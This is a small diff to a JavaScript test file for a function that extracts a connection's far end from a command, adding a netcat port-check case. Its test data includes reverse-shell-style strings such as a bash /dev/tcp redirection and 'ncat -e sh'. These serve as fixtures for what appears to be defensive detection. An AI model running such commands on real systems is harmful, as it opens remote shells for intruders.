@@ -167,6 +167,7 @@ describe('the far end that a script names', () => {
     ['a variable that nobody sets', by('bash', '-c', 'bash -i >& /dev/tcp/$H/4444 0>&1')],
     ['variables that are no host and port', by('python3', '-c', `h=5;p=6;s.connect((h,p))`)],
     ['a listener with an address', by('ncat', '-e', 'sh', '-l', '203.0.113.9', '4444')],
+    ['a look at a port', by('nc', '-vz', '203.0.113.9', '4444')],
     ['a mail', by('sh', '-c', 'mail -s "connect 203.0.113.9 at 4444"')],
   ])('is not guessed: %s', (_, event) => {
     expect(toOf(event)).toBeUndefined();
